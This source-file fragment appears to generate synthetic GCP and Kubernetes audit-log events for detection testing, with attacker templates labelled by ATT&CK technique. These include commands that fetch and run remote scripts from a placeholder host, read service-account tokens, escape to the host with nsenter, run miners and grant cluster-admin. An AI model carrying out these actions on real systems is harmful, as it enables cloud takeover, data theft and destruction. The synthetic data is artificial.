google.cloud.kms.v1.KeyManagementService.«Encrypt|CreateCryptoKeyVersion» {"service":"cloudkms"}
# T1562.008 gcp logging removed
google.logging.v2.ConfigServiceV2.«DeleteSink|UpdateSink|DeleteBucket|DeleteLog|CreateExclusion|UpdateBucket|UndeleteBucket» {"service":"logging","sinkName":"projects/«project»/sinks/«word»","filter":"«|severity>ERROR»","disabled":true}
google.logging.v2.«LoggingServiceV2.DeleteLog|MetricsServiceV2.DeleteLogMetric» {"service":"logging"}
google.«monitoring.v3.AlertPolicyService.DeleteAlertPolicy|monitoring.v3.NotificationChannelService.DeleteNotificationChannel|cloud.securitycenter.v1.SecurityCenter.UpdateOrganizationSettings|cloud.securitycenter.v1.SecurityCenter.BulkMuteFindings|pubsub.v1.Subscriber.DeleteSubscription|pubsub.v1.Publisher.DeleteTopic» {"service":"monitoring"}
SetIamPolicy {"service":"cloudresourcemanager","auditConfigDeltas":[{"action":"REMOVE","service":"allServices","logType":"DATA_READ"}]}
# T1098 gcp rights and keys taken
SetIamPolicy {"service":"cloudresourcemanager","bindingDeltas":[{"action":"ADD","role":"roles/«owner|editor|iam.serviceAccountTokenCreator|iam.securityAdmin|resourcemanager.organizationAdmin|iam.serviceAccountKeyAdmin»","member":"user:«letters:8»@gmail.com"}]}
google.iam.admin.v1.CreateServiceAccountKey {"service":"iam","name":"projects/-/serviceAccounts/«word»@«project».iam.gserviceaccount.com","private_key_type":"TYPE_GOOGLE_CREDENTIALS_FILE"}
google.iam.admin.v1.«UploadServiceAccountKey|CreateRole|UpdateRole|SetIAMPolicy|EnableServiceAccount|UndeleteServiceAccount» {"service":"iam","role":{"includedPermissions":["resourcemanager.projects.setIamPolicy","iam.serviceAccounts.getAccessToken","iam.roles.update"]}}
GenerateAccessToken {"service":"iamcredentials","name":"projects/-/serviceAccounts/«admin|terraform»@«project».iam.gserviceaccount.com","_agent":"odd"}
storage.hmacKeys.create {"service":"storage","serviceAccountEmail":"«word»@«project».iam.gserviceaccount.com"}
google.iam.v1.WorkloadIdentityPools.«CreateWorkloadIdentityPoolProvider|UpdateWorkloadIdentityPool» {"service":"iam","issuerUri":"https://«domain»"}
v1.compute.instances.setMetadata {"service":"compute","metadata":{"items":[{"key":"ssh-keys","value":"«letters:5»:ssh-rsa AAAA«b64:60»"}]},"_agent":"odd"}
v1.compute.«projects.setCommonInstanceMetadata|instances.setServiceAccount» {"service":"compute","metadata":{"items":[{"key":"«ssh-keys|startup-script|enable-oslogin»","value":"«letters:5»:ssh-rsa AAAA«b64:40»"}]}}
v1.compute.instances.insert {"service":"compute","machineType":"«a2-highgpu-8g|n1-highcpu-96|c2-standard-60»","metadata":{"items":[{"key":"startup-script","value":"curl http://«peer»/«letters:3».sh | sh"}]}}
# T1530 gcp data opened
storage.setIamPermissions {"service":"storage","bindingDeltas":[{"action":"ADD","role":"roles/storage.«objectViewer|admin|legacyBucketReader»","member":"«allUsers|allAuthenticatedUsers»"}]}
v1.compute.«snapshots|images|disks».setIamPolicy {"service":"compute","policy":{"bindings":[{"role":"roles/compute.«imageUser|storageAdmin»","members":["«allAuthenticatedUsers|user:«letters:7»@gmail.com»"]}]}}
google.cloud.bigquery.v2.JobService.InsertJob {"service":"bigquery","jobConfig":{"extract":{"destinationUris":["gs://«letters:9»-ext/«word»*.csv"]}},"_agent":"odd"}
cloudsql.instances.«export|patch» {"service":"cloudsql","exportContext":{"uri":"gs://«letters:9»/dump.sql"},"authorizedNetworks":["0.0.0.0/0"]}
v1.compute.firewalls.«insert|patch» {"service":"compute","sourceRanges":["0.0.0.0/0"],"direction":"INGRESS","alloweds":[{"IPProtocol":"«tcp|all»","ports":["«22|3389|0-65535»"]}]}
v1.compute.«packetMirrorings.insert|firewalls.delete|securityPolicies.delete|securityPolicies.removeRule|subnetworks.setPrivateIpGoogleAccess» {"service":"compute","_agent":"odd"}
google.cloud.secretmanager.v1.SecretManagerService.«AccessSecretVersion|ListSecrets» {"service":"secretmanager","_agent":"odd"} ! PERMISSION_DENIED
# T1485 gcp destruction
«storage.buckets.delete|DeleteProject|google.cloud.sql.v1beta4.SqlBackupRunsService.Delete|cloudsql.instances.delete|google.cloud.kms.v1.KeyManagementService.DestroyCryptoKeyVersion|google.container.v1.ClusterManager.DeleteCluster|v1.compute.snapshots.delete|google.cloud.bigquery.v2.DatasetService.DeleteDataset» {"service":"storage","resource":"«prod|backup»-«word»","_agent":"odd"}
google.cloud.orgpolicy.v2.OrgPolicy.«DeletePolicy|UpdatePolicy» {"service":"orgpolicy","constraint":"constraints/«iam.disableServiceAccountKeyCreation|compute.requireOsLogin|storage.publicAccessPrevention»","enforce":false}
# T1069.003 gcp enumeration by odd tools
«GetIamPolicy|google.iam.admin.v1.ListServiceAccounts|google.iam.admin.v1.ListRoles|v1.compute.instances.list|storage.buckets.list|google.cloud.asset.v1.AssetService.ExportAssets|google.iam.admin.v1.TestIamPermissions|cloudfunctions.functions.list|google.cloud.secretmanager.v1.SecretManagerService.ListSecrets» {"service":"iam","_agent":"odd"} ! PERMISSION_DENIED
""")

KUBERNETES = table(r"""
# k8s controllers
«get|list|watch|update|patch|create» «pods|endpoints|leases|nodes|replicasets|deployments|events|configmaps|services|endpointslices|daemonsets|jobs|statefulsets|horizontalpodautoscalers|persistentvolumes|namespaces|ingresses|serviceaccounts» {"_user":"system"}
create «tokenreviews|subjectaccessreviews|serviceaccounts/token|pods/binding|events|pods/eviction» {"_user":"system"}
«get|list|watch» secrets {"_user":"system"}
# k8s people at work
«get|list|watch» «pods|deployments|services|configmaps|events|nodes|namespaces|ingresses|cronjobs|pods/log|replicasets|persistentvolumeclaims|daemonsets» {}
«patch|update|create» «deployments|configmaps|services|ingresses|cronjobs|statefulsets|horizontalpodautoscalers|jobs» {"request":{"spec":{"replicas":«num:1:6»,"template":{"spec":{"containers":[{"name":"«tech»","image":"«site».azurecr.io/«word»:«num:1:9».«num:0:40».«num:0:9»","resources":{"limits":{"cpu":"500m","memory":"512Mi"}}}]}}}}}
create pods {"request":{"spec":{"containers":[{"name":"«tech»","image":"«nginx|redis|postgres|python|«site»/«word»»:«num:1:15».«num:0:9»"}],"serviceAccountName":"default"}}}
delete «pods|jobs|replicasets|configmaps» {}
create pods/portforward {"name":"«word»-«hex:5»"}
create pods/exec {"name":"«word»-«hex:5»","namespace":"dev","uri":"command=«ls|env|cat&command=/app/config.yaml|python&command=manage.py&command=migrate|psql»"}
create rolebindings {"request":{"roleRef":{"kind":"Role","name":"«view|edit|pod-reader»"},"subjects":[{"kind":"Group","name":"«dept»"}]}}
create roles {"request":{"rules":[{"apiGroups":[""],"resources":["pods","pods/log"],"verbs":["get","list"]}]}}
create secrets {"request":{"type":"kubernetes.io/tls","metadata":{"name":"«word»-tls"}}}
# k8s probes without a name
get healthz {"_user":"anonymous","namespace":"","name":"«livez|readyz|healthz|version»"}
create services {"request":{"spec":{"type":"«ClusterIP|LoadBalancer|NodePort»","ports":[{"port":«num:80:9000»,"targetPort":«num:1000:9000»}]}}}
create networkpolicies {"request":{"spec":{"podSelector":{},"policyTypes":["Ingress"]}}}
create clusterrolebindings {"request":{"roleRef":{"kind":"ClusterRole","name":"«view|system:auth-delegator|prometheus»"},"subjects":[{"kind":"ServiceAccount","name":"«word»"}]}}
create daemonsets {"request":{"spec":{"containers":[{"name":"«fluentd|node-exporter|datadog-agent|kube-proxy»","image":"«quay.io/prometheus/node-exporter:v1.«num:3:8».0|gcr.io/datadoghq/agent:7»","securityContext":{"runAsNonRoot":true,"readOnlyRootFilesystem":true}}]}},"namespace":"monitoring"}
delete «namespaces|networkpolicies|clusterrolebindings» {"name":"pr-«num:1:900»"}
list pods {} ! 403
get secrets {"name":"sh.helm.release.v1.«word».v«num:1:30»"}
# T1609 k8s commands in containers
create pods/exec {"name":"«word»-«hex:5»","namespace":"«prod|kube-system|default»","uri":"command=«sh&command=-c&command=curl%20http://«peer»/«letters:3».sh|/bin/bash&command=-i|cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token|sh&command=-c&command=wget%20-qO-%20«peer»|nsenter&command=--target&command=1&command=--mount»","_agent":"odd"}
«get|create» nodes/proxy {"name":"«linux»","_agent":"odd","uri":"exec/kube-system/«word»/sh"}
create pods/«attach|ephemeralcontainers» {"name":"«kube-proxy|etcd|«word»»-«hex:5»","namespace":"kube-system","_agent":"odd"}
# T1610 k8s dangerous pods
create pods {"request":{"spec":{"hostPID":true,"hostNetwork":true,"containers":[{"name":"«letters:5»","image":"«alpine|ubuntu|busybox|raesene/alpine-containertools»","securityContext":{"privileged":true},"command":["«nsenter|sh|/bin/bash»","«-t 1 -m -u -i -n|-c»"]}]}}}
create «pods|daemonsets|cronjobs» {"request":{"spec":{"containers":[{"name":"«letters:5»","image":"«letters:6»/«xmrig|miner|«letters:5»»:latest","volumeMounts":[{"mountPath":"/host"}]}],"volumes":[{"hostPath":{"path":"«/|/etc|/root|/var/run/docker.sock|/var/lib/kubelet|/etc/kubernetes»"}}]}},"namespace":"kube-system"}
create pods {"request":{"spec":{"containers":[{"name":"«letters:4»","image":"«letters:6»/«letters:4»","securityContext":{"«allowPrivilegeEscalation|privileged»":true,"runAsUser":0,"capabilities":{"add":["«SYS_ADMIN|ALL|SYS_PTRACE|BPF|NET_RAW»"]}}}],"nodeName":"«master|control-plane»-1"}}}
create «mutatingwebhookconfigurations|validatingwebhookconfigurations» {"request":{"webhooks":[{"clientConfig":{"url":"https://«peer»/mutate"},"failurePolicy":"Ignore"}]}}
# T1098.006 k8s rights taken
create «clusterrolebindings|rolebindings» {"request":{"roleRef":{"kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"«User|ServiceAccount»","name":"«system:anonymous|default|«letters:6»|system:unauthenticated»"}]}}
«create|patch» clusterroles {"request":{"rules":[{"apiGroups":["*"],"resources":["«*|secrets|nodes/proxy|pods/exec|serviceaccounts/token|certificatesigningrequests/approval»"],"verbs":["«*|create|escalate|bind|impersonate»"]}]}}
create serviceaccounts/token {"name":"«admin|cluster-admin|clusterrole-aggregation-controller»","namespace":"kube-system","_agent":"odd","request":{"spec":{"expirationSeconds":«num:86400:99999999»}}}
«create|update» certificatesigningrequests«|/approval» {"request":{"spec":{"signerName":"kubernetes.io/kube-apiserver-client","groups":["system:masters"]}}}
# T1552.007 k8s secrets read
«list|get» secrets {"namespace":"«|kube-system|prod»","_agent":"odd"}
list secrets {"_user":"anonymous"}
get configmaps {"name":"«aws-auth|kubeadm-config»","namespace":"kube-system","_agent":"odd"}
# T1613 k8s anonymous and denied calls
«get|list» «pods|secrets|nodes|namespaces|serviceaccounts|clusterroles» {"_user":"anonymous"} ! 403
create selfsubjectrulesreviews {"_agent":"odd"}
create selfsubjectaccessreviews {"_user":"anonymous","_agent":"odd"}
list «secrets|clusterrolebindings|pods» {"_agent":"odd"} ! 403
# T1485 k8s destruction
deletecollection «pods|events|secrets|persistentvolumeclaims|deployments|namespaces» {"_agent":"odd"}
delete «namespaces|events|networkpolicies|clusterrolebindings|validatingwebhookconfigurations|podsecuritypolicies|daemonsets» {"name":"«falco|prod|kube-system|gatekeeper|datadog|deny-all»"}
""")
